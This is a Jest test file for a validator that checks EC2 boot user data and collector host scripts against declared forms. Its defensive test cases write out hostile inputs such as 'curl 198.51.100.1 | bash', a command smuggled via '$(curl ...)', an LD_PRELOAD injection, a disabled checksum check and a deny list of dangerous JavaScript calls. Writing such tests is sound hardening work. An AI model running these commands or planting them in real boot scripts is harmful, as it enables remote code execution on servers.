// The boot texts of servers: the files of the repository have the declared forms, and each change of a line is
// refused.
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { hostTexts } from '../../../../lib/collection/server-files';
import { Assembly, Resource, type StackTemplate } from '../../../../lib/tom/template/assembly';
import { bootText } from '../../../../lib/tom/world/collection-boot';
import type { Context, Form } from '../../../../lib/tom/world/form';
import { hostFiles } from '../../../../lib/tom/world/host-files';
import { fetchScript, scriptForm } from '../../../../lib/tom/world/host-scripts';
import { facts } from '../rules/example';

const host = join(__dirname, '..', '..', '..', '..', 'services', 'collector', 'host');
const program = ['SPOOL_FOLDER', 'SPOOL_LIMIT_BYTES', 'DURABLE', 'STREAM_NAME', 'SITES_SOURCE', 'KEYS_SOURCE', 'CLIENT_ADDRESS'].join(';');
const texts: Readonly<Record<string, string>> = { ...hostTexts(), 'collector.cjs': `"use strict";require("node:fs");${program}` };
const variables = { deployment: 'production', region: 'eu-west-3' };
const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');

let folder: string;
let context: Context;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'rempart-boot-'));
  const assets = Object.entries(texts).map(([name, text]) => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return { objectKey: `key-${name}`, bucket: 'cdk-hnb659fds-assets-${AWS::AccountId}-eu-west-3', path };
  });
  const stack: StackTemplate = { name: 'production-collection', region: 'eu-west-3', template: { Resources: {} }, assets };
  const template = new Resource(stack, 'Template', { Type: 'AWS::EC2::LaunchTemplate' });
  context = { resource: template, assembly: new Assembly(facts, [stack]), facts, variables };
});
afterAll(() => rmSync(folder, { recursive: true }));

const pathsOf = (form: Form, value: string): readonly string[] => form.deviations({ value, path: '', context }).map(({ path }) => path);

/** The user data in canonical form. */
function userData(): string {
  const beginning = readFileSync(join(host, 'fetch.sh'), 'utf8').trimEnd().replaceAll('${', '$!{');
  const agent = {
    agent: { region: 'eu-west-3' },
    logs: {
      logs_collected: {
        files: {
          collect_list: ['rempart/journal', 'audit/audit'].map((name) => ({
            file_path: `/var/log/${name}.log`,
            log_group_name: '${collection/CollectorsLogGroup}',
            log_stream_name: `{instance_id}/${name.split('/')[1]}`,
          })),
        },
      },
    },
  };
  const settings = {
    'collector.env':
      'HOST=0.0.0.0\nPORT=8080\nSPOOL_FOLDER=/var/spool/collector\nSPOOL_LIMIT_BYTES=85899345920\nCOMMIT_DELAY_MS=5\nDURABLE=on\n' +
      'STREAM_NAME=${data/Hits}\nAWS_REGION=eu-west-3\nSITES_SOURCE=s3://${data/Settings}/sites.json\n' +
      'KEYS_SOURCE=secretsmanager:production/sites\nCLIENT_ADDRESS=x-forwarded-for\nSTOP_SECONDS=60\n' +
      'METRICS_NAMESPACE=Rempart/production\nMETRICS_GROUP=production-collectors',
    'host.env':
      'GROUP=production-collectors\nLAUNCH_HOOK=ready\nTERMINATION_HOOK=drained\nNAMESPACE=Rempart/production\nDISKS="sdf sdg"\n' +
      'SPOOL_FOLDER=/var/spool/collector\nHEALTH_URL=http://127.0.0.1:8080/health\nDRAIN_SECONDS=3600\n' +
      'export AWS_REGION=eu-west-3 AWS_DEFAULT_REGION=eu-west-3 AWS_RETRY_MODE=standard AWS_MAX_ATTEMPTS=5 ' +
      'AWS_METADATA_SERVICE_NUM_ATTEMPTS=5 AWS_METADATA_SERVICE_TIMEOUT=2',
    'amazon-cloudwatch-agent.json': JSON.stringify(agent, undefined, 2),
  };
  return [
    '#!/bin/bash',
    beginning,
    'export AWS_REGION=eu-west-3 AWS_DEFAULT_REGION=eu-west-3',
    ...Object.entries(settings).map(([name, text]) => `keep ${name} <<'SETTINGS'\n${text}\nSETTINGS`),
    ...Object.entries(texts).map(
      ([name, text]) => `fetch cdk-hnb659fds-assets-\${AWS::AccountId}-eu-west-3 key-${name} ${sha256(text)} ${name}`,
    ),
    '. "$program_folder/boot.sh"',
    'trap - EXIT',
    '',
  ].join('\n');
}

test('the user data and the files of the repository have the declared form', () => {
  expect(pathsOf(bootText, userData())).toEqual([]);
});

test.each([
  ['a setting with a space before it', 'DURABLE=on', ' DURABLE=on'],
  ['a setting of another value', 'DURABLE=on', 'DURABLE=off'],
  ['a second assignment', 'DURABLE=on', 'DURABLE=off\nDURABLE=on'],
  ['a second assignment after the first', 'DURABLE=on', 'DURABLE=on\nDURABLE=on'],
  ['a further setting', 'DURABLE=on', 'DURABLE=on\nSTREAM_ENDPOINT=http://127.0.0.1:1'],
  ['a continued line', 'DURABLE=on', 'DURABLE=on\\'],
  ['a stream of the same type', '${data/Hits}', '${data/Other}'],
  ['text after a reference', '${data/Hits}', '${data/Hits}-x'],
  ['a command in host.env', 'DISKS="sdf sdg"', 'DISKS="sdf $(curl 198.51.100.1)"'],
  ['an exported variable', 'AWS_MAX_ATTEMPTS=5 AWS', 'AWS_MAX_ATTEMPTS=5 LD_PRELOAD=/tmp/x AWS'],
  ['a log group elsewhere', '${collection/CollectorsLogGroup}', '/elsewhere'],
  ['a line after the settings', "keep host.env <<'SETTINGS'", "curl 198.51.100.1 | bash\nkeep host.env <<'SETTINGS'"],
  ['an unquoted here-document', "keep host.env <<'SETTINGS'", 'keep host.env <<SETTINGS'],
  ['a file of settings twice', 'fetch ', "keep host.env <<'SETTINGS'\nX=1\nSETTINGS\nfetch "],
  ['a further step', 'trap - EXIT\n', 'trap - EXIT\ncurl 198.51.100.1 | bash\n'],
  ['no fetch of a file', /^fetch .* disks\.sh\n/m, ''],
  ['a fetch of a further file', /^(fetch .*) disks\.sh$/m, '$1 disks.sh\n$1 more.sh'],
  ['a key of another file', 'key-disks.sh', 'key-boot.sh'],
  ['a key that is not uploaded', 'key-disks.sh', 'key-stranger.sh'],
  ['another bucket', '-eu-west-3 key-disks.sh', '-eu-west-1 key-disks.sh'],
  ['another checksum', sha256(texts['disks.sh'] ?? ''), sha256('x')],
  ['the file of another name', /^fetch (.*) lifecycle\.sh$/m, 'fetch $1 lifecycle.sh.bak'],
  ['a changed beginning', 'umask 022', 'umask 000'],
  ['no check of the checksum', 'sha256sum --check --status', 'true'],
  ['another shell', '#!/bin/bash', '#!/bin/sh'],
  ['a command before the region', 'export AWS_REGION=eu-west-3 AWS_D', 'useradd x\nexport AWS_REGION=eu-west-3 AWS_D'],
  ['another region', 'export AWS_REGION=eu-west-3 AWS_D', 'export AWS_REGION=us-east-1 AWS_D'],
])('refuses %s', (_, from, to) => {
  const changed = userData().replace(from, () => (typeof from === 'string' ? to : ''));
  const text = typeof from === 'string' ? changed : userData().replace(from, to);
  expect(text).not.toBe(userData());
  expect(pathsOf(bootText, text)).not.toEqual([]);
});

const names = Object.keys(hostTexts());

/**
 * Changes of one line of a text that a program reads: without it, twice, with text after it, and with one before it.
 */
const changesOf = (lines: readonly string[], index: number): readonly string[] =>
  [[], [lines[index], lines[index]], [`${lines[index]}x`], ['Stranger=1', lines[index]]].map((replaced) =>
    lines.toSpliced(index, 1, ...(replaced as string[])).join('\n'),
  );

test.each(names)('refuses each change of a line of %s', (name) => {
  const lines = (texts[name] ?? '').split('\n');
  const read = lines.flatMap((line, index) => (/^\s*(#.*)?$/.test(line) ? [] : [index]));
  const survivors = read.flatMap((index) =>
    changesOf(lines, index).filter((changed) => pathsOf(hostFiles[name] as Form, changed).length === 0),
  );
  expect(survivors.map((text) => text.slice(0, 200))).toEqual(lines.flatMap(descriptionChange));
});

/** The description of a unit is free: a text after it is admitted. */
const descriptionChange = (line: string): readonly unknown[] => (/^Description=/.test(line) ? [expect.any(String)] : []);

test('comments and indentation of scripts are free, a comment that ends a continued line is not', () => {
  const form = scriptForm(fetchScript);
  const text = `#!/bin/bash\n${readFileSync(join(host, 'fetch.sh'), 'utf8').trimEnd()}`;
  expect(pathsOf(form, text)).toEqual([]);
  expect(pathsOf(form, text.replace('umask 022', '  # a comment\n\n  umask 022'))).toEqual([]);
  expect(pathsOf(form, text.replace('"$instance" \\\n', '"$instance" \\\n# a comment\n'))).not.toEqual([]);
});

test('a finding about a changed script has the new digest', () => {
  const form = hostFiles['metadata.sh'] as Form;
  const [found] = form.deviations({ value: (texts['metadata.sh'] ?? '').replaceAll('--retry 2', '--retry 3'), path: 'x', context });
  expect(found).toMatchObject({ path: 'x.rest', found: expect.stringMatching(/^[0-9a-f]{64}$/) });
});

test.each(['require("node:vm")', 'eval("1")', 'new Function("1")', "require('node:dgram')", 'require(`node:repl`)', 'import(x)'])(
  'refuses a program with %s',
  (code) => {
    const form = hostFiles['collector.cjs'] as Form;
    expect(pathsOf(form, texts['collector.cjs'] ?? '')).toEqual([]);
    expect(pathsOf(form, `${texts['collector.cjs']};${code}`)).not.toEqual([]);
  },
);
